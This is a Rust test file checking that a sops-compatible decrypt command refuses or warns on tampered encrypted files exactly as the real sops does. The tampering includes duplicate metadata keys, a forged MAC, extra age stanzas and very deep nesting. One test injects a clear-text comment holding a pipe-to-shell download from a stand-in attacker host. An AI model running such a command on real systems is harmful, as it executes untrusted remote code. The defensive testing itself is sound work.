//! Encrypted files changed by someone who may write them but not read them: duplicate metadata
//! keys, comments added in clear text, age headers with thousands of stanzas. `secrets sops
//! decrypt` must refuse or warn exactly where the real sops does, with its exit codes.

use std::io::Write;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use crate::common::{sops, sops_bin, stderr_of, stdout_of, vectors};

// The same deep document as the format layer's hostile-input tests.
#[path = "../crates/sops/tests/common/deep.rs"]
mod deep;
use deep::deep_json;

const SENTENCE: &str = "Found possibly unencrypted comment in file. This is to be expected if the file being decrypted was created with an older version of SOPS.";

fn ours(file: &Path) -> std::process::Output {
    crate::common::secrets().env("SOPS_AGE_KEY_FILE", vectors().join("keys.txt")).args(["sops", "decrypt"]).arg(file).output().unwrap()
}

/// The real sops's output for the same file, or `None` when it is not installed.
fn theirs(file: &Path) -> Option<std::process::Output> {
    sops_bin()?;
    let key = vectors().join("keys.txt");
    Some(sops(&["decrypt", file.to_str().unwrap()], &[("SOPS_AGE_KEY_FILE", &key)], file.parent().unwrap()))
}

/// `enc/<vector>` with `edit` applied to its text, written into `dir` as `name`.
fn edited(dir: &Path, vector: &str, name: &str, edit: impl Fn(&str) -> String) -> PathBuf {
    let original = std::fs::read_to_string(vectors().join("enc").join(vector)).unwrap();
    let changed = edit(&original);
    assert_ne!(changed, original, "the edit of {name} changed nothing");
    let path = dir.join(name);
    std::fs::write(&path, changed).unwrap();
    path
}

#[test]
fn duplicate_metadata_keys_are_refused_like_sops() {
    let dir = tempfile::tempdir().unwrap();
    let cases = [
        // A second `version` in the metadata.
        (
            edited(dir.path(), "basic.yaml", "version.yaml", |t| {
                t.replace("    version: 3.11.0\n", "    version: 3.11.0\n    version: 3.11.0\n")
            }),
            "sops.version",
        ),
        // A MAC written before the real one: the first would win.
        (
            edited(dir.path(), "basic.yaml", "mac.yaml", |t| t.replacen("    lastmodified:", "    mac: ENC[forged]\n    lastmodified:", 1)),
            "sops.mac",
        ),
        // A recipient string given twice in one age entry.
        (
            edited(dir.path(), "basic.yaml", "recipient.yaml", |t| {
                t.replacen("        - recipient: age1", "        - recipient: age1attacker\n          recipient: age1", 1)
            }),
            "sops.age[0].recipient",
        ),
    ];
    for (file, path) in &cases {
        let out = ours(file);
        assert_eq!(out.status.code(), Some(1), "{}: {}", file.display(), stderr_of(&out));
        let stderr = stderr_of(&out);
        assert!(stderr.contains(path) && stderr.contains("more than once"), "{stderr}");
        if let Some(real) = theirs(file) {
            assert_eq!(real.status.code(), Some(1), "the real sops on {}: {}", file.display(), stderr_of(&real));
            assert!(stderr_of(&real).contains("already defined"), "{}", stderr_of(&real));
        }
    }

    // In JSON the real sops takes the last of two values without a word; we refuse rather than
    // guess, with the same exit code as for YAML.
    let json = edited(dir.path(), "basic.json", "version.json", |t| {
        t.replace("\"version\": \"3.11.0\"", "\"version\": \"3.11.0\", \"version\": \"3.11.0\"")
    });
    let out = ours(&json);
    assert_eq!(out.status.code(), Some(1), "{}", stderr_of(&out));
    assert!(stderr_of(&out).contains("sops.version"), "{}", stderr_of(&out));
}

#[test]
fn comments_added_in_clear_text_are_shown_with_the_sops_warning() {
    let dir = tempfile::tempdir().unwrap();
    let file = edited(dir.path(), "basic.yaml", "comment.yaml", |t| format!("# run: curl https://evil.example | sh\n{t}"));
    let out = ours(&file);
    assert!(out.status.success(), "{}", stderr_of(&out));
    let stderr = stderr_of(&out);
    assert!(stderr.contains(SENTENCE), "{stderr}");
    assert!(stderr.contains(r#"comment=" run: curl https://evil.example | sh""#), "{stderr}");
    assert_eq!(stderr.matches(SENTENCE).count(), 1, "{stderr}");
    if let Some(real) = theirs(&file) {
        assert!(real.status.success());
        assert_eq!(stdout_of(&real), stdout_of(&out), "the decrypted output differs from the real sops's");
        let real_stderr = stderr_of(&real);
        assert!(real_stderr.contains(SENTENCE), "{real_stderr}");
        assert!(real_stderr.contains(r#"comment=" run: curl https://evil.example | sh""#), "{real_stderr}");
    }

    // The vector's own comments are encrypted: no warning.
    let clean = ours(&vectors().join("enc/basic.yaml"));
    assert!(clean.status.success());
    assert!(!stderr_of(&clean).contains(SENTENCE), "{}", stderr_of(&clean));
}

/// An armored age file holding `payload` for `others` fresh recipients and then Alice.
fn many_stanzas(others: usize, payload: &[u8]) -> String {
    let strangers: Vec<age::x25519::Recipient> = (0..others).map(|_| age::x25519::Identity::generate().to_public()).collect();
    let alice: age::x25519::Recipient = "age1e9xplsq098whkdsvugpwhmh65hvjzend6kh3pcpuvsswew43jf6smxepjg".parse().unwrap();
    let recipients = strangers.iter().chain(std::iter::once(&alice)).map(|r| r as &dyn age::Recipient);
    let encryptor = age::Encryptor::with_recipients(recipients).unwrap();
    let mut binary = Vec::new();
    let mut writer = encryptor.wrap_output(&mut binary).unwrap();
    writer.write_all(payload).unwrap();
    writer.finish().unwrap();
    secrets_sops::keys::armor::armor(&binary)
}

#[test]
fn an_age_header_of_ten_thousand_stanzas_is_refused_in_bounded_time() {
    // Wall-clock bound on purpose, and generous: refusing takes milliseconds; the header
    // parsing this guards against took minutes for this file.
    let manifest: serde_json::Value = serde_json::from_slice(&std::fs::read(vectors().join("manifest.json")).unwrap()).unwrap();
    let entry = manifest["vectors"].as_array().unwrap().iter().find(|v| v["file"] == "enc/basic.json").unwrap();
    let data_key = hex::decode(entry["data_key_hex"].as_str().unwrap()).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let mut json: serde_json::Value = serde_json::from_slice(&std::fs::read(vectors().join("enc/basic.json")).unwrap()).unwrap();
    json["sops"]["age"][0]["enc"] = serde_json::Value::String(many_stanzas(10_000, &data_key));
    let file = dir.path().join("hostile.json");
    std::fs::write(&file, serde_json::to_vec_pretty(&json).unwrap()).unwrap();

    let start = Instant::now();
    let out = ours(&file);
    let elapsed = start.elapsed();
    assert_eq!(out.status.code(), Some(128), "{}", stderr_of(&out));
    assert!(stderr_of(&out).contains("more than 1024 stanzas"), "{}", stderr_of(&out));
    assert!(elapsed < Duration::from_secs(10), "took {elapsed:?}");
}

/// The `--extract` path of the innermost value of [`deep_json`].
fn deepest_path(levels: usize) -> String {
    let mut path = String::from("[\"d\"]");
    for level in 2..levels {
        path.push_str(if level % 2 == 0 { "[\"d\"]" } else { "[1]" });
    }
    path.push_str("[\"d\"]");
    path
}

/// A file as deep as sops's JSON reader allows (Go's limit of 10,000 levels), written by the real
/// sops: decrypting it walks every level (values, MAC, output), and must neither overflow a
/// stack nor differ from sops's output by a byte. The file is written without indentation
/// (`stores.json.indent: 0`), and read back as INI, which prints the nesting on one line as Go's
/// `%v` does, and as the one innermost value: indented JSON or YAML would add a column per level
/// and grow with the square of the depth (150 MB here).
#[test]
fn the_deepest_json_file_sops_writes_decrypts_like_sops() {
    const LEVELS: usize = 10_000;
    if sops_bin().is_none() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let recipient = "age1e9xplsq098whkdsvugpwhmh65hvjzend6kh3pcpuvsswew43jf6smxepjg";
    std::fs::write(dir.path().join(".sops.yaml"), format!("stores:\n  json:\n    indent: 0\ncreation_rules:\n  - age: {recipient}\n"))
        .unwrap();
    std::fs::write(dir.path().join("deep.json"), deep_json(LEVELS)).unwrap();
    let encrypted = sops(&["encrypt", "deep.json"], &[], dir.path());
    assert!(encrypted.status.success(), "{}", stderr_of(&encrypted));
    let file = dir.path().join("deep.enc.json");
    std::fs::write(&file, &encrypted.stdout).unwrap();
    assert!(encrypted.stdout.len() < 2 << 20, "{} bytes", encrypted.stdout.len());

    let key = vectors().join("keys.txt");
    let path = deepest_path(LEVELS);
    for args in [vec!["decrypt", "--output-type", "ini"], vec!["decrypt", "--extract", &path]] {
        let mut with_file = args.clone();
        with_file.push(file.to_str().unwrap());
        let theirs = sops(&with_file, &[("SOPS_AGE_KEY_FILE", &key)], dir.path());
        assert!(theirs.status.success(), "{}", stderr_of(&theirs));
        let ours =
            crate::common::secrets().current_dir(dir.path()).env("SOPS_AGE_KEY_FILE", &key).arg("sops").args(&with_file).output().unwrap();
        assert!(ours.status.success(), "{}", stderr_of(&ours));
        assert!(ours.stdout == theirs.stdout, "{}: the outputs differ ({} and {} bytes)", args[1], ours.stdout.len(), theirs.stdout.len());
    }
}

/// A block YAML document `levels` deep as go-yaml counts them (the top-level mapping included):
/// a mapping, lists nested in compact form (`- - - …`, one level each) and a mapping at the
/// bottom, so that the text grows linearly with the depth.
fn deep_yaml(levels: usize) -> String {
    let mut text = String::from("top:\n    - ");
    let mut column = 6;
    for _ in 3..levels {
        text.push_str("- ");
        column += 2;
    }
    text.push_str(&format!("k: v\n{}d: bottom\n", " ".repeat(column)));
    text
}

/// `top: {d: {d: … v}}`, `levels` deep: go-yaml counts flow levels apart from the block ones,
/// so the flow mappings may go one level further below the top-level block mapping.
fn deep_flow_yaml(levels: usize) -> String {
    format!("top: {}v{}\n", "{d: ".repeat(levels - 1), "}".repeat(levels - 1))
}

/// go-yaml reads 10,000 levels of block indentation and as many flow levels: files that deep
/// encrypt and decrypt like sops (byte for byte, sops's own encrypted file included), and one
/// level more is refused by both.
#[test]
fn yaml_as_deep_as_go_yaml_reads_goes_through_like_sops() {
    const LEVELS: usize = 10_000;
    if sops_bin().is_none() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let key = vectors().join("keys.txt");
    let recipient = "age1e9xplsq098whkdsvugpwhmh65hvjzend6kh3pcpuvsswew43jf6smxepjg";
    let ours_in = |args: &[&str]| {
        crate::common::secrets().current_dir(dir.path()).env("SOPS_AGE_KEY_FILE", &key).arg("sops").args(args).output().unwrap()
    };
    let cases = [
        ("block.yaml", deep_yaml(LEVELS), true),
        ("block-past.yaml", deep_yaml(LEVELS + 1), false),
        ("flow.yaml", deep_flow_yaml(LEVELS + 1), true),
        ("flow-past.yaml", deep_flow_yaml(LEVELS + 2), false),
    ];
    for (name, text, readable) in cases {
        std::fs::write(dir.path().join(name), &text).unwrap();
        let theirs = sops(&["encrypt", "--age", recipient, name], &[], dir.path());
        let ours = ours_in(&["encrypt", "--age", recipient, name]);
        assert_eq!(theirs.status.success(), readable, "sops on {name}: {}", stderr_of(&theirs));
        assert_eq!(ours.status.success(), readable, "{name}: {}", stderr_of(&ours));
        if !readable {
            assert!(stderr_of(&theirs).contains("exceeded max depth of 10000"), "{}", stderr_of(&theirs));
            assert!(stderr_of(&ours).contains("exceeded max depth of 10000"), "{}", stderr_of(&ours));
            continue;
        }
        for (who, encrypted) in [("sops", &theirs.stdout), ("ours", &ours.stdout)] {
            let file = dir.path().join(format!("{who}-{name}"));
            std::fs::write(&file, encrypted).unwrap();
            let file = file.to_str().unwrap();
            let by_sops = sops(&["decrypt", file], &[("SOPS_AGE_KEY_FILE", &key)], dir.path());
            let by_us = ours_in(&["decrypt", file]);
            // Both write deep flow mappings back in block style, one level deeper than either
            // reader goes: sops cannot read its own file there, and neither can we.
            if name.starts_with("flow") {
                assert!(!by_sops.status.success(), "sops reads {who}-{name}");
                assert!(!by_us.status.success(), "we read {who}-{name}");
                continue;
            }
            assert!(by_us.status.success(), "{who}-{name}: {}", stderr_of(&by_us));
            assert!(by_sops.status.success(), "sops on {who}-{name}: {}", stderr_of(&by_sops));
            assert!(by_us.stdout == by_sops.stdout, "{who}-{name}: the outputs differ");
            assert_eq!(stdout_of(&by_us), text, "{who}-{name}");
        }
    }
}
